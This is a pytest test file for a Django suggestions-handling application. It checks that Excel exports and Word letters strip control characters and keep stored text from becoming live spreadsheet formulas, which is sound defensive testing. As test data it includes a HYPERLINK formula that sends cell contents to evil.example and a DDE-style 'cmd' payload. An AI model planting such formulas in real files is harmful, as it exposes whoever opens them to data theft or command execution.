"""Exports and letters write any stored text safely (issue 7, hardening: the output half).

Text is cleaned at the door, but rows stored before that (or written by the admin, a command, a
future import) may still hold control characters or formula-looking text; every file generated
from them must still open, show the text, and never turn it into a live formula. The texts are
stored with `.update()` to stand for such rows, after the states were reached through the real
workflow."""

import io
import zipfile

import pytest
from django.urls import reverse
from docx import Document
from openpyxl import load_workbook

from minsheng.people.models import Organisation, User
from minsheng.suggestions import workflow
from minsheng.suggestions.models import Category, JointOpinion, Reply, Suggestion
from tests import states

pytestmark = pytest.mark.django_db

EXPORT = reverse("suggestions:export")
VT = "\x0b"  # Word's Shift+Enter (a manual line break), pasted into a title
# No NUL: PostgreSQL refuses to store it at all (the door refuses it; lib tests cover it).
DROPPED = "\x01\x08\x1b\x1f\x7f\ufffe"  # removed from the written text
CONTROLS = DROPPED + "\x0b\x0c"  # and two that become line breaks
INJECTION = '=HYPERLINK("http://evil.example/steal?d="&A1,"点击查看详情")'


def export(client, user):
    client.force_login(user)
    response = client.get(EXPORT)
    assert response.status_code == 200
    data = b"".join(response.streaming_content)
    return data, load_workbook(io.BytesIO(data)).worksheets[0]


def column(ws, header):
    headers = [c.value for c in ws[1]]
    return ws.cell(row=2, column=headers.index(header) + 1)


def sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.read("xl/worksheets/sheet1.xml").decode()


def store(s: Suggestion, **fields) -> None:
    Suggestion.objects.filter(pk=s.pk).update(**fields)


# --- the staff ledger export -------------------------------------------------------------------


def test_a_vertical_tab_in_a_title_no_longer_breaks_the_export(client, cast):
    s = states.registered(cast)
    store(s, title=f"关于农村公路{VT}安全设施的建议")
    data, ws = export(client, cast.staff)
    # The manual line break is kept as a line break inside the cell.
    assert column(ws, "标题").value == "关于农村公路\n安全设施的建议"


def test_a_title_starting_with_equals_is_exported_as_text_not_a_formula(client, cast):
    s = states.registered(cast)
    store(s, title=INJECTION)
    data, ws = export(client, cast.staff)
    cell = column(ws, "标题")
    assert cell.value == INJECTION
    assert cell.data_type == "s"
    # Shown as text in Excel and LibreOffice, and still text after someone edits the cell.
    assert cell.quotePrefix is True
    assert "<f>" not in sheet_xml(data) and "HYPERLINK" in sheet_xml(data)


@pytest.mark.parametrize(
    ("stored", "shown"),
    [
        ("+86-871-1234567 请回电", "+86-871-1234567 请回电"),
        ("-1+1 测试", "-1+1 测试"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"),
        ("\t=1+1", "\t=1+1"),
        ("\r=1+1", "\n=1+1"),
    ],
)
def test_every_formula_trigger_stays_text(client, cast, stored, shown):
    s = states.registered(cast)
    store(s, title=stored)
    data, ws = export(client, cast.staff)
    cell = column(ws, "标题")
    assert (cell.value, cell.data_type, cell.quotePrefix) == (shown, "s", True)
    assert "<f>" not in sheet_xml(data)


def test_ordinary_titles_get_no_quote_prefix(client, cast):
    states.registered(cast, title="关于改善农村公路安全设施的建议")
    _data, ws = export(client, cast.staff)
    assert column(ws, "标题").quotePrefix is False


def test_every_stored_text_in_the_export_is_written_safely(client, cast):
    """Names of deputies, co-signers, delegations, units and categories, and the reply's
    category, all hold control characters and formula text; the export answers and every cell
    is plain text with no control character."""
    s = states.answered(cast, cosign=True, joint=True)
    bad = f"={CONTROLS}1+1"
    store(s, title=f"标题{CONTROLS}")
    User.objects.filter(pk__in=[cast.deputy.pk, cast.cosigner.pk]).update(real_name=bad)
    Organisation.objects.filter(pk=cast.unit_a.pk).update(name=bad)
    Organisation.objects.filter(pk=cast.unit_b.pk).update(name=f"{bad}B")
    Organisation.objects.filter(kind=Organisation.Kind.DELEGATION).update(name=f"{bad}团")
    Category.objects.filter(pk=s.category_id).update(name=bad)
    data, ws = export(client, cast.staff)
    assert "<f>" not in sheet_xml(data)
    cells = [c for c in ws[2] if isinstance(c.value, str)]
    assert cells
    for cell in cells:
        assert not any(ch in cell.value for ch in DROPPED)
    assert column(ws, "领衔代表").value == "=\n\n1+1"
    assert column(ws, "领衔代表").quotePrefix is True
    assert column(ws, "代表团").value == "=\n\n1+1团"
    assert column(ws, "承办单位").value.startswith("=\n\n1+1")
    assert column(ws, "分类").value == "=\n\n1+1"


def test_the_export_filename_header_is_valid(client, cast):
    states.registered(cast)
    client.force_login(cast.staff)
    response = client.get(EXPORT)
    assert response["Content-Disposition"].startswith("attachment;")
    assert response["Cache-Control"] == "private, no-store"


# --- the import template and preview -----------------------------------------------------------


def test_imported_cells_are_cleaned_like_every_other_door(client, cast, settings, tmp_path):
    from tests.test_excel import row, upload, workbook

    settings.MEDIA_ROOT = tmp_path
    # Excel stores a control character as an escape (Shift+Enter is _x000B_); openpyxl hands it
    # over literally.
    data = workbook([row(cast, title="关于校园安全_x000B_的建议", 内容="第一段_x0001_第二段")])
    response = upload(client, cast, data)
    assert response.status_code == 200
    (checked,) = response.context["rows"]
    assert checked.title == "关于校园安全\n的建议"
    assert checked.body == "第一段第二段"


def test_the_import_template_cells_are_text(client, cast):
    client.force_login(cast.staff)
    response = client.get(reverse("suggestions:import_template"))
    assert response.status_code == 200
    wb = load_workbook(io.BytesIO(response.content))
    for ws in wb.worksheets:
        for cells in ws.iter_rows():
            for cell in cells:
                assert cell.data_type in ("s", "n"), cell.coordinate


# --- the Word letters --------------------------------------------------------------------------


def letter_text(response) -> str:
    doc = Document(io.BytesIO(response.content))
    parts = [p.text for p in doc.paragraphs]
    for table in doc.tables:
        parts += [cell.text for row in table.rows for cell in row.cells]
    return "\n".join(parts)


def reply_url(reply: Reply) -> str:
    return reverse("suggestions:reply_letter", args=[reply.suggestion_id, reply.pk])


def test_control_characters_in_a_reply_no_longer_break_its_letter(client, cast):
    s = states.answered(cast, category_code="B")
    reply = s.replies.get()
    Reply.objects.filter(pk=reply.pk).update(
        text=f"经研究{DROPPED}，已安排专项资金。{VT}第二段。",
        plan=f"分三年实施{CONTROLS}。",
        contact_leader=f"孙立新{CONTROLS}",
        contact_leader_phone=f"0871{CONTROLS}1234567",
        case_officer=f"赵敏{CONTROLS}",
        case_officer_phone="=1+1",
    )
    client.force_login(cast.deputy)
    response = client.get(reply_url(reply))
    assert response.status_code == 200
    text = letter_text(response)
    assert "经研究，已安排专项资金。" in text
    assert "\n第二段。" in text  # the vertical tab became a paragraph break
    assert "责任领导：孙立新" in text and "经 办 人：赵敏" in text
    assert not any(ch in text for ch in DROPPED)


def test_every_stored_text_in_the_reply_letter_is_written_safely(client, cast):
    s = states.answered(cast, joint=True)
    reply = s.replies.get(assignment__unit=cast.unit_a)
    store(s, title=f"关于{CONTROLS}公路的建议")
    User.objects.filter(pk=cast.deputy.pk).update(real_name=f"林{CONTROLS}建国")
    # The unit's name is in the filename too: a line break there used to be a bad header.
    Organisation.objects.filter(pk=cast.unit_a.pk).update(name=f"交通{CONTROLS}\n运输厅/")
    Organisation.objects.filter(pk=cast.unit_b.pk).update(name=f"教育{CONTROLS}厅")
    Reply.objects.filter(pk=reply.pk).update(text=f"经研究{CONTROLS}已完成。")
    client.force_login(cast.staff)
    response = client.get(reply_url(reply))
    assert response.status_code == 200
    assert "\n" not in response["Content-Disposition"]
    assert "/" not in response["Content-Disposition"].split("filename*=utf-8''")[1]
    text = letter_text(response)
    assert "《关于\n\n公路的建议》" in text
    assert "林\n\n建国代表：" in text
    assert "经研究\n已完成。" in text  # blank lines are dropped in a unit's own text
    assert "经商教育\n\n厅，现答复如下：" in text  # the consulted unit, cleaned
    assert not any(ch in text for ch in DROPPED)


def test_control_characters_in_a_joint_opinion_no_longer_break_its_letter(client, cast):
    s = states.handling(cast, joint=True)
    opinion = workflow.submit_joint_opinion(s, by=cast.clerk_b, text="同意。")
    JointOpinion.objects.filter(pk=opinion.pk).update(text=f"同意{CONTROLS}主办单位意见。")
    User.objects.filter(pk=cast.clerk_b.pk).update(real_name=f"钱{CONTROLS}多", phone="=1+1")
    client.force_login(cast.clerk_b)
    response = client.get(reverse("suggestions:joint_opinion_letter", args=[s.pk, opinion.pk]))
    assert response.status_code == 200
    text = letter_text(response)
    assert "同意" in text and "主办单位意见。" in text
    assert "联 系 人：钱" in text
    assert not any(ch in text for ch in DROPPED)
